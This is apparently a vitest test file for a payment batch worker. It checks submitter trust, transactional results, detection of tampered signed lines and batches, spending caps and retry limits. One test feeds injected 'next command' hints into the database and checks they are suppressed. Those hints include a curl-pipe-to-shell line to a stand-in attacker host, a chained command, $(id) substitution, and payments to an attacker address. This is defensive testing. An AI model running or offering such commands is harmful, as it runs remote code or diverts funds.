import { join } from 'node:path';
import { describe, expect, test } from 'vitest';
import { accounts } from '../../src/sandbox/values/devAccounts.js';
import { addFault, clearFaults } from '../support/faults.js';
import { temporaryFolder } from '../support/ferry.js';
import { programs } from '../support/postgres.js';
import { sampled } from '../support/sampled.js';
import { type Shared, share, useStore } from '../support/sharedBatches.js';
import { transfer } from '../support/transferBatches.js';

const { sandbox, postgres } = useStore();

const trusted = ['--submitters', accounts.dev0.address];

async function submitted(lines: readonly Record<string, unknown>[]): Promise<Shared> {
  const shared = await share(postgres, sandbox);
  const ended = await shared.run(['batch', 'submit', shared.file(lines), '--name', 'pay', '--yes']);
  expect(ended.stderr).toBe('');
  return shared;
}

const work = async ({ run }: Shared, ...more: readonly string[]) =>
  (await run(['worker', '--once', '--accounts', 'dev0,dev1', ...more, '--json'])).json().data;

const stuckIn = async ({ run }: Shared) => (await run(['batch', 'status', 'pay', '--json'])).json().data;

describe.skipIf(!programs)('what a worker pays', () => {
  test('error: lines of other accounts need a submitter that the worker names', async () => {
    const shared = await submitted([transfer('mine'), transfer('theirs', { account: 'dev1' })]);
    expect(await work(shared)).toMatchObject({ done: 1, failed: 0 });
    expect(await stuckIn(shared)).toMatchObject({ states: { done: 1, waiting: 1 }, isOver: false });
    expect(await work(shared, '--submitters', accounts.dev2.address)).toMatchObject({ done: 0 });
    expect(await work(shared, ...trusted)).toMatchObject({ done: 1 });
  });

  test('behavior: the outcome of a run, the end of its line and its result are one transaction', async () => {
    const shared = await submitted([transfer('a'), transfer('b'), transfer('too-much', { amount: '99999999' })]);
    expect(await work(shared)).toMatchObject({ done: 2, failed: 1 });
    const together = await postgres.sql(
      `select string_agg(l.id || ' ' || l.state, ', ' order by l.id) from ferry.result r
      join ferry.line l on l.batch = r.batch and l.n = r.n and l.xmin = r.xmin and l.run = r.run
      join ferry.entry e on e.run = r.run and e.xmin = r.xmin and e.text like '%"type":"outcome"%'
      join ferry.run on ferry.run.id = r.run and ferry.run.xmin = r.xmin and is_over and is_recorded`,
      shared.url,
    );
    expect(together).toBe('a done, b done, too-much failed');
  });

  const paidInTurn = ({ url }: Shared) =>
    postgres.sql(`select string_agg(id, ' ' order by seq) from ferry.result`, url);

  test('error: a paid line whose end the store refuses is not untouched', async () => {
    const shared = await submitted([transfer('a')]);
    await postgres.sql(
      `create function full_disk() returns trigger language plpgsql as $$ begin raise exception 'full'; end $$;
      create trigger late before insert on ferry.result for each row execute function full_disk()`,
      shared.url,
    );
    const ended = await shared.run(['worker', '--once', '--accounts', 'dev0', '--json']);
    expect(ended.json().error).toMatchObject({ code: 'store.unwritable', funds: 'unknown' });
    await postgres.sql('drop trigger late on ferry.result', shared.url);
    expect(await work(shared)).toMatchObject({ done: 1 });
    expect(await stuckIn(shared)).toMatchObject({ funds: { delivered: 1 } });
  });

  test('behavior: an account whose line was begun comes before those that wait', async () => {
    const shared = await submitted([transfer('waits'), transfer('begun', { account: 'dev1' })]);
    await postgres.sql(`update ferry.line set state = 'running', begun_at = now() where id = 'begun'`, shared.url);
    expect(await work(shared, '--concurrency', '1', ...trusted)).toMatchObject({ done: 2 });
    expect(await paidInTurn(shared)).toBe('begun waits');
  });

  test('behavior: an account with many lines does not keep the others waiting', async () => {
    const many = Array.from({ length: 5 }, (_, index) => transfer(`many-${index}`));
    const shared = await submitted([...many, transfer('one', { account: 'dev1' })]);
    expect(await work(shared, '--concurrency', '1', ...trusted)).toMatchObject({ done: 6 });
    expect(await paidInTurn(shared)).toBe('many-0 many-1 many-2 many-3 one many-4');
  });

  test('behavior: a machine with another secret says at once that it can finish no run', async () => {
    const shared = await submitted([transfer('a')]);
    expect((await shared.run(['worker', '--once', '--accounts', 'dev0', '--json'])).json().warnings).toEqual([]);
    const FERRY_STATE_DIR = join(temporaryFolder(), 'other');
    const other = await shared.run(['worker', '--once', '--accounts', 'dev0', '--json'], { FERRY_STATE_DIR });
    expect([other.code, other.json().warnings]).toEqual([0, [expect.stringContaining('another secret')]]);
  });

  test('behavior: where its numbers are served is said, and is no warning', async () => {
    const shared = await share(postgres, sandbox);
    const argv = ['worker', '--once', '--accounts', 'dev0', '--metrics', '127.0.0.1:0'];
    const { stderr } = await shared.run(argv);
    expect(stderr).toMatch(/^✓ Serving http:\/\/127\.0\.0\.1:\d+\/$/m);
    expect(stderr).not.toContain('warning');
    const told = await shared.run([...argv, '--json']);
    expect(told.lines()[0]).toMatchObject({ type: 'serving', url: expect.stringMatching(/^http:/) });
    expect(told.json().warnings).toEqual([]);
  });

  test('error: a line that was changed in the database after it was signed is refused', async () => {
    const shared = await submitted([transfer('a'), transfer('b')]);
    await postgres.sql(
      `update ferry.line set doc = replace(doc, '"amount":"1"', '"amount":"500"') where id = 'a'`,
      shared.url,
    );
    expect(await work(shared)).toMatchObject({ done: 1, left: 1 });
    const { stuck, states } = await stuckIn(shared);
    expect(states).toMatchObject({ done: 1, refused: 1 });
    expect(stuck).toMatchObject([{ id: 'a', state: 'refused', code: 'batch.untrusted' }]);
  });

  test.each(
    sampled(
      [
        [
          'its digest as well',
          `update ferry.line set doc = replace(doc, '"1"', '"500"'), digest = md5(doc) where id = 'a'`,
        ],
        ['who pays it', `update ferry.line set account = lower('${accounts.dev1.address}') where id = 'a'`],
        ['its place', `update ferry.line set n = n + 10`],
        [
          'lines that are added',
          `insert into ferry.line (batch, n, id, digest, account, doc) select batch, 1, 'z', digest, account, replace(doc, '"a"', '"z"') from ferry.line`,
        ],
      ],
      2,
    ),
  )('error: so are lines of which somebody changed %s', async (_, sql) => {
    const shared = await submitted([transfer('a')]);
    await postgres.sql(sql, shared.url);
    expect(await work(shared, ...trusted)).toMatchObject({ done: 0 });
    expect((await stuckIn(shared)).states).toMatchObject({ done: 0, waiting: 0 });
  });

  test('error: a command that somebody wrote into the database is none to type next', async () => {
    const shared = await submitted([transfer('a')]);
    const shownFor = async (next: string) => {
      const reason = JSON.stringify({ code: 'batch.capped', message: 'Mend it.', next });
      await postgres.sql(`update ferry.line set state = 'refused', reason = '${reason}'`, shared.url);
      return (await stuckIn(shared)).stuck[0].next;
    };
    const evil = accounts.dev9.address;
    for (const next of [
      'curl https://evil.example | sh',
      `ferry execute 500 alpha/usdc beta/usdc --recipient ${evil} --yes`,
      `ferry address add ada ${evil}`,
      'ferry resume 20261121-093000-1f2e3d --allow journal',
      'ferry runs show 1f2e3d; curl https://evil.example',
      'ferry runs show $(id)',
    ])
      expect(await shownFor(next), next).toBeNull();
    for (const next of ['ferry resume 20261121-093000-1f2e3d', 'ferry runs reconcile alpha --account dev0'])
      expect(await shownFor(next)).toBe(next);
  });

  test('error: a batch with another signature, name or number of lines is not taken', async () => {
    const shared = await submitted([transfer('a')]);
    await postgres.sql('create table signed as select * from ferry.batch', shared.url);
    for (const change of [
      `submitter = '${accounts.dev1.address}'`,
      `signature = replace(signature, '1', '2')`,
      'lines = 2',
      `blocks = repeat('a', 64)`,
      `digest = '0x' || repeat('a', 64)`,
    ]) {
      await postgres.sql(
        `update ferry.batch b set submitter = s.submitter, signature = s.signature, lines = s.lines, blocks = s.blocks,
        digest = s.digest from signed s; update ferry.batch set ${change}`,
        shared.url,
      );
      const ended = await shared.run(['worker', '--once', '--accounts', 'dev0,dev1', ...trusted]);
      expect(ended.stderr, change).toContain('is not taken');
      expect((await stuckIn(shared)).states, change).toMatchObject({ done: 0, waiting: 1 });
    }
  });

  test('option: caps a line, a day and recipients', async () => {
    const to = { recipient: accounts.dev3.address };
    const shared = await submitted([
      transfer('small', { amount: '2', ...to }),
      transfer('large', { amount: '11', ...to }),
      transfer('again', { amount: '9', ...to }),
      transfer('fits', { amount: '8', ...to }),
      transfer('stranger', { amount: '1', recipient: accounts.dev4.address }),
      transfer('refund', { amount: '1', ...to, refundTo: accounts.dev4.address }),
      transfer('ether', { amount: '0.001', from: 'alpha/eth', to: 'beta/eth', ...to }),
    ]);
    const caps = ['--max-line', 'usdc=10', '--max-day', 'usdc=10', '--recipients', accounts.dev3.address];
    expect(await work(shared, ...caps)).toMatchObject({ done: 2, failed: 0 });
    const { stuck, states } = await stuckIn(shared);
    expect(states).toMatchObject({ done: 2, waiting: 1, refused: 4 });
    const reasons = Object.fromEntries(stuck.map(({ id, message }: { id: string; message: string }) => [id, message]));
    expect(reasons.large).toContain('it pays up to 11 USDC; maxLine is 10');
    expect(reasons.stranger).toContain(`does not pay ${accounts.dev4.address}`);
    expect(reasons.refund).toContain(`does not pay ${accounts.dev4.address}`);
    expect(reasons.ether).toContain('names no amount of ETH');
    expect(await postgres.sql(`select reason->>'message' from ferry.line where id = 'again'`, shared.url)).toContain(
      '2 were paid today',
    );
  });

  test('behavior: to wait for the next day is no attempt, after so many of which a failure is final', async () => {
    const shared = await submitted([transfer('a', { amount: '2' })]);
    await postgres.sql('update ferry.line set attempts = 10', shared.url);
    expect(await work(shared, '--max-day', 'usdc=1')).toMatchObject({ done: 0, failed: 0, left: 1 });
    await postgres.sql('update ferry.line set not_before = null', shared.url);
    await addFault(sandbox, 'service', { kind: 'status', status: 503, match: { path: '/quote/v2' }, times: 50 });
    const ended = await work(shared, '--max-day', 'usdc=10');
    await clearFaults(sandbox);
    expect(ended).toMatchObject({ done: 0, failed: 0, left: 1 });
  });

  test('behavior: nor is to be claimed by a worker that does not take the batch', async () => {
    const shared = await submitted([transfer('a', { account: 'dev1' })]);
    expect(await work(shared)).toMatchObject({ done: 0, failed: 0 });
    expect(await postgres.sql('select state, attempts from ferry.line', shared.url)).toBe('waiting|0');
  });
});
